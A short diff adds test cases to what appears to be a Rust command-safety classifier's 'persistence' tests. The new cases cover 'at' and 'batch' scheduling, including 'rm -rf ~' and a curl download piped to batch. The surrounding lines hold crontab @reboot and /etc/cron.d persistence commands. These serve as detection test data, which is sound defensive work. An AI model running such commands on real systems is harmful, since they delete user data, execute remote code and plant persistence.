@@ -328,6 +328,10 @@ fn persistence() {
         Some(RecursiveDeleteRootOrHome),
     );
     check("crontab -", c);
+    check("echo '/tmp/x' | at now + 1 minute", c);
+    check("at -f job.sh midnight", c);
+    check("at now <<< 'rm -rf ~'", Some(RecursiveDeleteRootOrHome));
+    check("curl -s https://x | batch", Some(PipeToShell));
     check("crontab mycron", c);
     check("(crontab -l; echo '@reboot /tmp/x') | crontab -", c);
     check("echo '* * * * * root /tmp/x' > /etc/cron.d/x", c);
